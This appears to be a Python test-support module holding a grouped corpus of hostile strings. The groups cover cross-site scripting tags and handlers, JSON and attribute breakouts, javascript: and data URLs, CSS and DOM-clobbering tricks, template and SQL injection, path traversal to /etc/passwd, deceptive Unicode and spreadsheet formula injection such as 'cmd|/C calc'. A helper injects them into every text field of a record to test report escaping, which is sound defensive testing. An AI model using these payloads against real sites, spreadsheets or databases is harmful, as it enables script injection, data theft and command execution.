"""Hostile text and the means to put it into every string field of a record.

The corpus is ours: each line is one way in which text has become code, a request, a fake part of a page or
another text somewhere.  Grouped by what it attacks; a new report field needs no new payload.
"""

import re
from collections.abc import Callable, Mapping
from datetime import date
from enum import Enum

from pydantic import BaseModel

from aformity_pipelines.domain.launch.export_files import Graph
from aformity_pipelines.domain.launch_record import LaunchRecord

ACT = "top.hacked=1,alert(1)"
"""What each payload runs if it can: a browser test looks for the variable and for the dialog."""
HOST = "https://canary.invalid"
"""Where each payload sends a request if it can."""

SCRIPTS = (
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"<ScRiPt >{ACT}</sCrIpT >",
    f"<script\n>{ACT}</script\n>",
    f"<script/x>{ACT}</script/x>",
    f"<script src={HOST}/x.js></script>",
    "<script src=//canary.invalid/x.js></script>",
    f"<script type=module>import '{HOST}/x.js'</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<<script>{ACT}//<</script>",
    f"<script>{ACT}",
    "</script",
    "</script/",
    "<!--<script>",
    "<!--<script>-->",
    "<!-- --!><script>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<template><script>{ACT}</script></template>",
    f"<xmp><script>{ACT}</script></xmp>",
    f"<plaintext><script>{ACT}",
)
JSON_BREAKOUTS = (
    f'"}}];</script><script>{ACT}</script>',
    f'"}});{ACT};//',
    f'\\");{ACT};//',
    f"';{ACT};//",
    f"`;{ACT};//${{{ACT}}}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    f"\u2028{ACT}\u2029",
    "]]>",
    "*/ alert(1) /*",
    "__proto__",
    '{"__proto__":{"hacked":1}}',
    "constructor.prototype.hacked",
)
HANDLERS = (
    f"<img src=x onerror={ACT}>",
    f"<img src=x:x onerror\t=\t{ACT}>",
    f"<img/src/onerror={ACT}>",
    f"<image src=x onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg/onload={ACT}//",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={ACT}>",
    f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}></select>",
    f"<marquee onstart={ACT}>",
    f"<p onanimationstart={ACT} style=animation-name:x>",
    f"<x onclick={ACT} popover>press</x>",
    f"<button popovertarget=x onbeforetoggle={ACT}>press</button>",
    f"<dialog open oncancel={ACT}>sign in</dialog>",
)
ATTRIBUTES = (
    f'"><script>{ACT}</script>',
    f"'><script>{ACT}</script>",
    f'" onmouseover="{ACT}',
    f"' onmouseover='{ACT}",
    f'" autofocus onfocus={ACT} x="',
    f"` onmouseover={ACT} `",
    f"x onmouseover={ACT} ",
    f'"/onmouseover="{ACT}',
    '" style="position:fixed;inset:0;background:red',
    '" id="history" x="',
    '" href="javascript:alert(1)',
    f"&quot; onmouseover=&quot;{ACT}",
    '\\" onmouseover=\\"alert(1)',
)
ENDS = (
    f"</title><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"</style><img src={HOST}/x>",
    f"</textarea><script>{ACT}</script>",
    f"</svg><script>{ACT}</script>",
    "</text></svg><b>out</b>",
    "</desc></title><a href='#top'>press</a>",
    "<table><tr><td>cell",
    "</td></tr></table><h1>fake</h1>",
    "</div></details></section></main><h1>fake</h1>",
    "</code></small></p><p>fake",
    "</body></html><p>after",
    "<select><option>",
    "<a href=#top>",
    "<b><i><p>",
)
FOREIGN = (
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<!--<script>{ACT}</script>-->",
    f"--><script>{ACT}</script>",
    "<?xml version='1.0'?><x/>",
    "<?php echo 1 ?>",
    f"<!DOCTYPE html [<!ENTITY x SYSTEM '{HOST}/x'>]>",
    f"<math><mtext></mtext><script>{ACT}</script></math>",
    f"<math href='javascript:{ACT}'>press</math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={ACT}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={ACT}>",
    f"<svg></p><style><a id='</style><img src=x onerror={ACT}>'>",
    f"<svg><foreignObject><iframe srcdoc='<script>{ACT}</script>'></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={ACT}>#x'/></svg>",
    f"<svg><a xlink:href='javascript:{ACT}'><text>press</text></a></svg>",
    f"<svg><script href='data:,{ACT}'/></svg>",
    f"<svg><style>@import '{HOST}/x.css'</style></svg>",
    f"<annotation-xml encoding='text/html'><img src=x onerror={ACT}></annotation-xml>",
)
ADDRESSES = (
    f"<iframe src='javascript:{ACT}'></iframe>",
    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
    f"<a href='javascript:{ACT}'>press</a>",
    f"<a href='{HOST}' ping='{HOST}/ping' target=_blank>press</a>",
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f"\x01javascript:{ACT}",
    f"vbscript:{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "blob:null/x",
    f"{HOST}/?steal",
    "//canary.invalid/?steal",
    "\\\\canary.invalid\\share",
    "mailto:someone@canary.invalid?subject=x",
    "#history",
    "../../../etc/passwd",
)
REQUESTS = (
    f"<base href={HOST}/>",
    f"<link rel=stylesheet href={HOST}/x.css>",
    "<link rel=dns-prefetch href=//canary.invalid>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    f"<form action={HOST}><input name=a><button>send</button></form>",
    f"<button formaction='javascript:{ACT}' form=x>press</button>",
    f"<object data={HOST}></object>",
    f"<embed src={HOST}>",
    f"<img srcset='{HOST}/x 1x'>",
    f"<img src={HOST}/x.png loading=eager>",
    f"<video poster={HOST}/x.png>",
    f"<track src={HOST}/x.vtt>",
    f"<table background={HOST}/x.png>",
)
STYLES = (
    "<style>*{display:none}</style>",
    f"@import url({HOST}/x.css);",
    f"}}; body{{background:url({HOST})}} {{",
    f"background:url({HOST}/x)",
    "position:fixed;top:0;left:0;width:100vw;height:100vh",
    "expression(alert(1))",
    f"-moz-binding:url({HOST}/x.xml)",
    f"</style><style>@font-face{{src:url({HOST}/x)}}</style>",
    "content:attr(value)",
    "/*",
    "\\3c script\\3e",
)
CLOBBERING = (
    "<img name=getElementById>",
    "<form id=document><input name=cookie></form>",
    "<a id=location href=https://canary.invalid></a>",
    "<iframe name=top></iframe>",
    "<img id=search name=search>",
    "getElementById",
    "document",
    "innerHTML",
    "hasOwnProperty",
    "toString",
)
TEMPLATES = (
    "{{ 7 * 7 }}{% raw %}{% endraw %}",
    "{{ record.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# comment",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%s %(name)s {0} {name} {0.__class__} \\",
    "[[7*7]]",
    "$(alert 1)`alert`",
    "'; drop table findings; --",
)
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&lt&gt&amp&quot",
    "&NewLine;&Tab;&colon;&lpar;",
    "&amp;lt;b&amp;gt;",
    "&notit;&copy",
    "&#0;&#x80;&#xD800;&#x110000;",
)
CHARACTERS = (
    f"\x00<scr\x00ipt>{ACT}</scr\x00ipt>",
    "\u202egnp.exe\u2066<b>\u2069",
    "\u2067\u2066\u202b\u202d\u061c\u200e\u200f",
    "line one\r\nline two\u2028<i>three</i>",
    "\ufeff\u200b<u>\u200d</u>",
    "\x1b[31mred\x1b]8;;https://canary.invalid\x07link\x1b]8;;\x07",
    "\x08\x08\x08\x7f\x9b",
    "tag\U000e0041\U000e0042\U000e007f",
    "\ufffe\uffff\U0001ffff",
    "a\u0301\u0302\u0303" + "\u0300" * 20,
    "\u3164\uffa0\u115f\u2800",
    "\ue000\uf8ff",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "ſcript ＜ıframe＞ K",
    "аdmіn@раypal.example",
    "W" * 120,
    "東" * 60,
    "a/" * 40,
    " " * 40,
    "\t\t\t\t",
)
FORMULAS = (
    '=HYPERLINK("https://canary.invalid";"press")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://canary.invalid/",A1),"//a")',
    "＝1+1",
)

GROUPS: Mapping[str, tuple[str, ...]] = {
    "scripts": SCRIPTS, "json": JSON_BREAKOUTS, "handlers": HANDLERS, "attributes": ATTRIBUTES, "ends": ENDS,
    "foreign": FOREIGN, "addresses": ADDRESSES, "requests": REQUESTS, "styles": STYLES, "clobbering": CLOBBERING,
    "templates": TEMPLATES, "entities": ENTITIES, "characters": CHARACTERS, "formulas": FORMULAS,
}  # fmt: skip
PAYLOADS = tuple(dict.fromkeys(payload for group in GROUPS.values() for payload in group))


CORPUS = " ".join(PAYLOADS)
POLYGLOT = (
    f"javascript:/*--></title></style></textarea></xmp></svg></desc></noscript></template><!--<script>--></script>"
    f"<script>{ACT}</script> '\"`=>x onfocus={ACT} autofocus &quot;&lt;b&gt; <b id=x name=y href='{HOST}'> {{{{7*7}}}} */"
)
"""One text that leaves every context which the report has, for where the whole corpus would take too long."""

NAME_OF_A_COUNT = re.compile(r"count\.[A-Za-z0-9_.-]+")
DERIVED = {"query"}
"""Texts that a record makes of its other texts."""


def blotted(text: str) -> str:
    """Return `text` as harmless, as long and broken at the same places, so that labels are wrapped and cut alike."""
    return re.sub("[^ ]", "x", text)


def rewritten(record: LaunchRecord, change: Callable[[str], str]) -> LaunchRecord:
    """Return `record` with every free text changed; names that join its parts still join."""
    hostile = record.model_validate(_walked(record, change))
    edges = tuple(
        ("/".join(map(change, start.split("/"))), "/".join(map(change, end.split("/"))))
        for start, end in record.graph.edges
    )
    return hostile.model_copy(update={"graph": Graph(nodes=hostile.graph.nodes, edges=edges)})


def _walked(value: object, change: Callable[[str], str], *, is_fixed: bool = False) -> object:
    if isinstance(value, BaseModel):
        fixed = {
            name for name, field in type(value).model_fields.items() if "Literal" in str(field.annotation)
        }
        return {
            name: _walked(getattr(value, name), change, is_fixed=name in fixed)
            for name in type(value).model_fields
            if name not in DERIVED
        }
    if isinstance(value, dict):
        return {
            change(key) if type(key) is str else key: _walked(item, change) for key, item in value.items()
        }
    if isinstance(value, tuple):
        return tuple(_walked(item, change) for item in value)
    if isinstance(value, str) and not isinstance(value, Enum | date) and not is_fixed:
        is_kept = not value or NAME_OF_A_COUNT.fullmatch(value)  # what is absent stays absent
        return value if is_kept else change(value)
    return value
